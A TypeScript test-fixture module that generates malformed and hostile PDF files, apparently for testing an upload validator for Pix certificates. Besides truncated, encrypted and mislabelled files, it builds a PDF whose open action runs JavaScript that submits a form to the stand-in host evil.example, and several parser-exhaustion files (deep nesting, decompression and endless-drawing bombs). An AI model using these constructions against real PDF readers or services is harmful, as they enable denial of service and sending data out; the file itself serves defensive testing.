/** Files that no pupil means to drop, and some that are made to do harm. */
import { deflateSync } from 'node:zlib';
import { pdfOf } from './objects.ts';
import { LINA } from './printed.ts';
import { sheetOf, write } from './sheet.ts';
import { v3Certificate } from './v3.ts';

const ASCII = new TextEncoder();

/** Half of a certificate: a download that broke off, with nothing that a reader could rebuild. */
export async function truncated(): Promise<Uint8Array<ArrayBuffer>> {
  const whole = await v3Certificate(LINA);
  return whole.slice(0, 600);
}

export function encrypted(): Promise<Uint8Array<ArrayBuffer>> {
  return v3Certificate(LINA, { password: 'secret' });
}

/** `bytes` bytes that begin as a PDF does. */
export function ofSize(bytes: number): Uint8Array<ArrayBuffer> {
  const file = new Uint8Array(bytes);
  file.set(ASCII.encode('%PDF-1.4\n'));
  return file;
}

export function ofPages(count: number): Promise<Uint8Array<ArrayBuffer>> {
  return sheetOf({ title: 'Rapport', keywords: null, layout: 'portrait' }, (sheet) => {
    for (let page = 1; page <= count; page += 1) write(sheet.addPage(), `Page ${page}`, 60, 60);
  });
}

/** A letter that speaks of a certificate, with its code and the page to check it. */
export function letter(): Promise<Uint8Array<ArrayBuffer>> {
  return sheetOf({ title: 'Lettre', keywords: null, layout: 'portrait' }, (sheet) => {
    sheet.addPage();
    write(sheet, 'Lina Exemple', 60, 60);
    write(
      sheet,
      `Madame, Monsieur, j’ai obtenu la Certification Pix au centre de certification Collège Imaginaire, délivrée le 20/05/2026, avec 312 pix sur 895. Le code de vérification est ${LINA.code}, sur app.pix.fr/verification-certificat.`,
      60,
      100,
      { width: 400 },
    );
  });
}

/** A scan: a picture and no text. */
export function scan(): Promise<Uint8Array<ArrayBuffer>> {
  return sheetOf({ title: 'Scan', keywords: null, layout: 'portrait' }, (sheet) => {
    sheet.addPage().rect(60, 60, 300, 200).fill('#cccccc');
    sheet.image(PIXEL, 60, 300, { width: 200 });
  });
}

const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

/** A ZIP archive that was given the name of a PDF. */
export function archive(): Uint8Array<ArrayBuffer> {
  return new Uint8Array([0x50, 0x4b, 0x05, 0x06, ...new Array<number>(18).fill(0)]);
}

/** A tree of pages that contains itself. */
export function loopingPages(): Uint8Array<ArrayBuffer> {
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>',
  ]);
}

/** A script that runs when the file is opened, and another on the page. */
export function withScript(): Uint8Array<ArrayBuffer> {
  const action =
    '<< /S /JavaScript /JS (app.alert\\("boo"\\); this.submitForm\\("https://evil.example"\\);) >>';
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} /AA << /WC ${action} >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O ${action} >> /Contents 4 0 R >>`,
    stream('', ''),
  ]);
}

/** Arrays within arrays, deeper than any reader's stack. */
export function deeplyNested(depth = 200_000): Uint8Array<ArrayBuffer> {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /Extra ${'['.repeat(depth)}${']'.repeat(depth)} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
  ]);
}

/** A page that draws a word again and again: little on disk, `times` pieces of text once read. */
export function hugeText(times: number): Uint8Array<ArrayBuffer> {
  return drawing('BT /F1 12 Tf 10 10 Td', '(certification) Tj 0 12 Td\n'.repeat(times), 'ET');
}

/** A page that draws nothing, for long: small on disk, and within what may be unpacked. */
export function slowDrawing(): Uint8Array<ArrayBuffer> {
  return pageOf('0 g\n'.repeat(7_500_000), '[4 0 R 4 0 R]');
}

/** Colours chosen in one part of the drawing below: 4 MB once unpacked. */
const CHOICES = 1_000_000;

/** How often the page names that part: 8 GB, minutes on any machine of today. */
const PARTS = 2000;

/** A page that draws nothing, for ever: small on disk, its one part named again and again. */
export function endlessDrawing(): Uint8Array<ArrayBuffer> {
  return pageOf('0 g\n'.repeat(CHOICES), `[${'4 0 R '.repeat(PARTS)}]`);
}

function drawing(...commands: string[]): Uint8Array<ArrayBuffer> {
  return pageOf(commands.join('\n'), '4 0 R');
}

function pageOf(content: string, contents: string): Uint8Array<ArrayBuffer> {
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${contents} /Resources << /Font << /F1 5 0 R >> >> >>`,
    stream('', content),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

function stream(head: string, content: string): string {
  const packed = deflateSync(ASCII.encode(content)).toString('latin1');
  return `<< ${head} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`;
}
